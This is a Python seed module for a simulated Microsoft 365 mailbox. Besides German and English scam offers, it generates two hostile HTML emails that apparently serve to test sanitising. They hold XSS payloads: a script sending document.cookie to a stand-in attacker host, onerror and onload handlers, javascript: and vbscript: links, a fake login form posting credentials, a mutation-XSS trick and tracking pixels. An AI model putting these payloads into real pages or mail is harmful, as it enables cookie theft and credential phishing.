"""Unwanted mail: clumsy offers, and a few that try to do harm when they are shown.

The hostile ones carry what a reader must take out: scripts, event handlers, ``javascript:`` links, forms,
style that covers the page, counting pixels, a link whose words name another host.
"""

from __future__ import annotations

from datetime import timedelta
from random import Random

from m365sim.seed.phrases import say
from m365sim.seed.threads import Desk, Filed, new_id
from m365sim.seed.times import moment
from m365sim.world.seedtypes import SeedAddress, SeedMessage

_OFFERS = (
    ("Sie haben gewonnen!!! 🎁", "[Glückwunsch|Herzlichen Glückwunsch]! Ihre Adresse wurde unter "
                                "[900|12.000] Teilnehmern gezogen. Antworten Sie binnen 24 Stunden mit "
                                "Ihrer Bankverbindung."),
    ("RE: RE: Zahlungserinnerung", "Ihre Zahlung konnte nicht verbucht werden. Öffnen Sie den Verweis und "
                                   "bestätigen Sie Ihre Daten, sonst wird Ihr Konto [heute|morgen] "
                                   "gesperrt."),
    ("10.000 Besucher für Ihre Seite", "Wir bringen Ihre Internetseite auf Platz 1. Garantiert. Ohne "
                                       "Risiko. [Rufen Sie uns nicht an, wir rufen Sie an.|Nur noch drei "
                                       "Plätze frei.]"),
    ("Dear Beneficiary", "I am the lawyer of a late client who shares your surname and left [8.5|14.2] "
                         "million. Kindly reply with your full name and telephone number."),
    ("Günstige Kredite ohne Auskunft", "Bis 80.000 € sofort, auch bei [schlechter|negativer] Auskunft. "
                                       "Ein Klick genügt."),
    ("Your parcel is waiting", "We could not deliver your parcel. Pay the fee of 1.99 within [12|24] hours."),
)  # fmt: skip

_SCRIPTED = (
    '<html><head><style>body{margin:0} '
    '.cover{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;'
    "background:#fff url(https://pixel.boese-post.example/bg.png)}</style></head><body "
    "onload=\"alert('geladen')\">"
    "<script>document.location='https://boese-post.example/?c='+document.cookie</script>"
    '<img src="x" onerror="alert(document.domain)"><svg onload="alert(1)"><a '
    'xlink:href="javascript:alert(2)">'
    "<text>Bild</text></a></svg><div class=\"cover\"><h1>Ihre Sitzung ist abgelaufen</h1>"
    '<form action="https://boese-post.example/anmelden" method="post"><input name="login" '
    'placeholder="E-Mail">'
    '<input name="password" type="password"><button>Anmelden</button></form></div>'
    "<a href=\"javascript:fetch('https://boese-post.example')\">Abmelden</a> "
    '<a href="https://boese-post.example/bank">https://www.sparbank-havelufer.example</a>'
    '<iframe src="https://boese-post.example/rahmen"></iframe><object '
    'data="https://boese-post.example/o.swf"></object>'
    '<meta http-equiv="refresh" content="0;url=https://boese-post.example/"><base '
    'href="https://boese-post.example/">'
    '<link rel="stylesheet" href="https://boese-post.example/s.css">'
    '<img src="https://pixel.boese-post.example/o.gif?e=info" width="1" height="1"></body></html>'
)  # fmt: skip
_BROKEN = (
    "<html><body><table><tr><td><div "
    "style=\"background:url('javascript:alert(3)');width:expression(alert(4))\">"
    "<p>Rechnung <b><i>offen</b></i>: bitte <a "
    "href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">ansehen"
    '</a><style>@import "https://boese-post.example/i.css"; * { display: none !important }</style>'
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></mtext></math>"
    '<img srcset="https://pixel.boese-post.example/2x.png 2x" src="//pixel.boese-post.example/1x.png">'
    "</td><a href=\"vbscript:msgbox(1)\" onclick=\"alert(6)\" style=\"position:absolute;inset:0\">&#8203;</a>"
)  # fmt: skip
HOSTILE = (("Ihre Sitzung ist abgelaufen", _SCRIPTED), ("Offene Rechnung 99812", _BROKEN))
"""Subject and HTML of the mails that attack their reader."""


def junk(rng: Random, desk: Desk) -> Filed:
    """One clumsy offer."""
    subject, words = rng.choice(_OFFERS)
    text = say(rng, words, {})
    html = f"<html><body><center><h2>{subject}</h2><p>{text}</p></center></body></html>"
    return _unwanted(rng, desk, subject, html)


def hostile(rng: Random, desk: Desk) -> list[Filed]:
    """Each attack once."""
    return [_unwanted(rng, desk, subject, html) for subject, html in HOSTILE]


def _unwanted(rng: Random, desk: Desk, subject: str, html: str) -> Filed:
    at = moment(rng, desk.now)
    sender = SeedAddress(
        f"{rng.choice(('service', 'gewinn', 'alert', 'x9'))}@boese-post.example", "Kundenservice"
    )
    message_id = new_id(rng, sender.address)
    message = SeedMessage(
        message_id,
        message_id,
        sender,
        sender,
        subject,
        at,
        at + timedelta(seconds=3),
        to=(desk.address,),
        html=html,
        is_read=rng.random() < 0.7,
        inference="other",
        headers=(("X-Spam-Status", "Yes, score=9.1"),),
    )
    return Filed(message, "junk")
